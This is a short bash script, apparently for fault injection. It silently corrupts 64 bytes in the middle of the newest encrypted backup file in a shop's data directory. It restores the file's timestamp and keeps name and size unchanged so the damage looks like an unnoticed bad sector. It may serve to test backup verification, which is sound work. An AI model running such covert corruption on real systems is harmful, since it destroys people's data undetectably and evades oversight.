#!/bin/bash
# A bad sector, in a place where nobody looks: turns some bytes in the middle of the newest copy. Same name, same size, same
# date. Run in the store's container.
cd /data/shop || exit 1
file=$(ls -r -- *.age | head -n 1)
# Once is enough.
[ -f /data/.rotten ] && exit 0
kept=$(stat -c %y "$file")
middle=$(($(stat -c %s "$file") / 2))
dd if="$file" bs=1 skip=$middle count=64 status=none | tr '\000-\377' '\001-\377\000' |
  dd of="$file" bs=1 seek=$middle conv=notrunc status=none
touch -d "$kept" "$file"
touch /data/.rotten
